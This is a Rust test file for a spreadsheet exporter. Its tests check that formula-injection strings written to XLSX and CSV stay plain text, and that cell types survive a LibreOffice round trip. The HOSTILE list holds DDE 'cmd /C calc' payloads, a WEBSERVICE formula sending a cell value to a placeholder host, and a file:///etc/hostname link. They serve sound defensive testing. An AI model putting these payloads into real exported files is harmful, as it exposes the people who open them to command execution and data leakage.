//! What is written: hostile texts stay texts, cells have true types, LibreOffice reads the same.

use calamine::Data;
use hoso_ocop::exchange::spreadsheet::{Cell, Column, Given, Kind, Sheet, read_xlsx, write_csv, write_xlsx};
use hoso_ocop::words::Explain as _;
use hoso_ocop::workspace::{SheetKind, SheetOptions};
use jiff::civil::date;
use proptest::prelude::*;
use tempfile::TempDir;

use super::{cells, common, convert, parsed};

/// What a spreadsheet may take for a formula, a link, a call of another program, or a number.
const HOSTILE: [&str; 34] = [
    "=1+1",
    "=HYPERLINK(\"http://example.invalid\",\"bấm\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+84 912 345 678",
    "@tra",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{FF1D}1+1",
    "\u{FF0B}1+1",
    "\u{FF0D}1+1",
    "\u{FF20}SUM(1)",
    "'=1+1",
    "\"=1+1\"",
    "trà;=1+1",
    "trà,=1+1",
    "trà\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    "DDE (\"cmd\",\"/C calc\",\"A0\")",
    "=WEBSERVICE(\"http://example.invalid/\"&A1)",
    "=IMPORTXML(\"http://example.invalid\",\"//a\")",
    "http://example.invalid/a?b=c",
    "mailto:a@example.invalid",
    "file:///etc/hostname",
    "TRUE",
    "0123",
    "1e5",
    "2/6/2027",
    "_x000D_ #REF! <b>&amp;</b> ]]>",
];

fn columns(kinds: &[Kind]) -> Vec<Column> {
    kinds.iter().enumerate().map(|(place, kind)| Column::new(format!("Cột {place}"), *kind, 20.0)).collect()
}

fn texts(texts: &[&str]) -> Sheet {
    let rows = texts.iter().map(|text| vec![Cell::Text((*text).to_owned())]).collect();
    Sheet { name: "Thử".to_owned(), columns: columns(&[Kind::Text]), rows }
}

#[test]
fn hostile_texts_stay_texts() {
    let bytes = write_xlsx(&[texts(&HOSTILE)]).unwrap();
    let read: Vec<Data> = cells(&bytes).into_iter().map(|mut row| row.remove(0)).collect();
    let wanted: Vec<Data> = HOSTILE.iter().map(|text| Data::String((*text).to_owned())).collect();
    assert_eq!(read, wanted);
    assert_eq!(write_xlsx(&[texts(&HOSTILE)]).unwrap(), bytes, "one list twice is one file");
}

#[test]
fn no_line_of_csv_begins_a_formula() {
    let csv = write_csv(&texts(&HOSTILE));
    assert!(csv.starts_with('\u{FEFF}'));
    let rows = parsed(&csv);
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    for (row, text) in rows[1..].iter().zip(HOSTILE) {
        let cell = &row[0];
        let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
        assert!(!cell.starts_with(starts), "{cell:?}");
        assert_eq!(cell.strip_prefix('\'').filter(|_| text.starts_with(starts)).unwrap_or(cell), text);
    }
}

#[test]
fn cells_have_the_types_of_their_columns() {
    let sheet = Sheet {
        name: "Kiểu".to_owned(),
        columns: columns(&[Kind::Text, Kind::Whole, Kind::Decimal, Kind::Date, Kind::YesNo, Kind::Whole]),
        rows: vec![
            vec![
                Cell::Text("05641".to_owned()),
                Cell::Whole(-7),
                Cell::Decimal(1.25),
                Cell::Date(date(2027, 6, 30)),
                Cell::YesNo(true),
                // More than a spreadsheet counts exactly.
                Cell::Whole(i64::MAX),
            ],
            vec![Cell::Empty, Cell::Empty, Cell::Empty, Cell::Date(date(1899, 5, 2))],
        ],
    };
    let read = cells(&write_xlsx(std::slice::from_ref(&sheet)).unwrap());
    assert_eq!(read[0][0], Data::String("05641".to_owned()));
    assert_eq!(read[0][1], Data::Float(-7.0));
    assert_eq!(read[0][2], Data::Float(1.25));
    let Data::DateTime(day) = read[0][3] else { panic!("{:?} is no day", read[0][3]) };
    assert_eq!(day.to_ymd_hms_milli(), (2027, 6, 30, 0, 0, 0, 0));
    assert_eq!(read[0][4], Data::Bool(true));
    assert_eq!(read[0][5], Data::String(i64::MAX.to_string()));
    // Excel knows no day before 1900.
    assert_eq!(read[1][3], Data::String("02/05/1899".to_owned()));
    let csv = parsed(&write_csv(&sheet));
    assert_eq!(csv[1], ["05641", "-7", "1.25", "2027-06-30", "1", "9223372036854775807"]);
    assert_eq!(csv[2], ["", "", "", "1899-05-02", "", ""]);
}

/// LibreOffice opens what we write, and what it makes of it holds the same.
#[test]
fn libreoffice_reads_the_same_values() {
    let folder = TempDir::new().unwrap();
    let mut workspace = common::workspace(&folder.path().join("data"));
    workspace.create_sample().unwrap();
    let list = folder.path().join("danh sách.xlsx");
    workspace.sheet(SheetKind::Papers, &SheetOptions::default()).unwrap().run_to(&list).unwrap();
    let hostile = folder.path().join("hostile.xlsx");
    std::fs::write(&hostile, write_xlsx(&[texts(&HOSTILE)]).unwrap()).unwrap();
    let out = folder.path().join("out");
    convert(
        folder.path(),
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,1066,false,true",
        &out,
        &[&list, &hostile],
    );
    let line = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
    let read = parsed(&std::fs::read_to_string(out.join("hostile.csv")).unwrap());
    let read: Vec<String> = read[1..].iter().map(|row| line(&row[0])).collect();
    assert_eq!(read, HOSTILE.map(line));
    // True days are shown as the column says.
    let papers = parsed(&std::fs::read_to_string(out.join("danh sách.csv")).unwrap());
    let ours = cells(&std::fs::read(&list).unwrap());
    assert_eq!(papers.len(), ours.len() + 1);
    let expires = papers[0].iter().position(|title| title == "Ngày hết hạn").unwrap();
    assert!(papers.iter().any(|row| row[expires] == "02/06/2027"), "{papers:?}");
    // And back: its own XLSX of ours is read with the same texts and days; its XLS is refused.
    convert(folder.path(), "xlsx", &out, &[&list, &hostile]);
    let again = cells(&std::fs::read(out.join("danh sách.xlsx")).unwrap());
    assert_eq!(again, ours);
    let grids = read_xlsx(&std::fs::read(out.join("hostile.xlsx")).unwrap()).unwrap();
    let given: Vec<&Given> = grids[0].rows[1..].iter().map(|row| &row.cells[&0]).collect();
    for (given, text) in given.iter().zip(HOSTILE) {
        let Given::Text(given) = given else { panic!("{text:?} became {given:?}") };
        assert_eq!(line(given), line(text));
    }
    convert(folder.path(), "xls", &out, &[&hostile]);
    let old = read_xlsx(&std::fs::read(out.join("hostile.xls")).unwrap()).unwrap_err();
    assert_eq!(old.explain().id, "sheet-old-kind");
}

fn any_cell() -> impl Strategy<Value = Cell> {
    let letters = "[ =+@\\-\t\n\"';,a-zÀ-ỹ0-9_x＝<&\u{1F375}]{1,12}";
    prop_oneof![
        letters.prop_map(Cell::Text),
        (-1_000_000_000_i64..1_000_000_000).prop_map(Cell::Whole),
        (-1_000_000_i32..1_000_000).prop_map(|number| Cell::Decimal(f64::from(number) / 64.0 + 0.001)),
        (0_i64..50_000).prop_map(|days| Cell::Date(date(1900, 3, 1) + jiff::Span::new().days(days))),
        any::<bool>().prop_map(Cell::YesNo),
        Just(Cell::Empty),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn what_is_written_is_read(rows in prop::collection::vec(prop::collection::vec(any_cell(), 1..6), 1..12)) {
        let sheet = Sheet { name: "Thử".to_owned(), columns: columns(&[Kind::Text; 6]), rows };
        let grid = read_xlsx(&write_xlsx(std::slice::from_ref(&sheet)).unwrap()).unwrap().remove(0);
        let csv = parsed(&write_csv(&sheet));
        prop_assert_eq!(csv.len(), sheet.rows.len() + 1);
        for (number, row) in (2..).zip(&sheet.rows) {
            let read = grid.rows.iter().find(|read| read.number == number);
            let line = &csv[number as usize - 1];
            prop_assert_eq!(line.len(), 6);
            for (column, cell) in (0..).zip(row) {
                let given = read.and_then(|row| row.cells.get(&column));
                let text = &line[column as usize];
                match (cell, given) {
                    (Cell::Empty, None) => prop_assert_eq!(text, ""),
                    // Blanks alone say nothing.
                    (Cell::Text(wrote), None) => prop_assert!(wrote.trim().is_empty()),
                    (Cell::Text(wrote), Some(Given::Text(read))) => {
                        prop_assert_eq!(wrote, read);
                        let bare = text.strip_prefix('\'').unwrap_or(text);
                        let plain = wrote.strip_prefix('\'').unwrap_or(wrote);
                        prop_assert_eq!(bare, plain);
                    }
                    (Cell::Whole(wrote), Some(Given::Number(read))) => prop_assert_eq!(*wrote as f64, *read),
                    (Cell::Decimal(wrote), Some(Given::Number(read))) => prop_assert_eq!(wrote, read),
                    (Cell::Date(wrote), Some(Given::Date(read))) => prop_assert_eq!(wrote, read),
                    (Cell::YesNo(wrote), Some(Given::YesNo(read))) => prop_assert_eq!(wrote, read),
                    (cell, given) => prop_assert!(false, "{:?} became {:?}", cell, given),
                }
            }
        }
    }
}
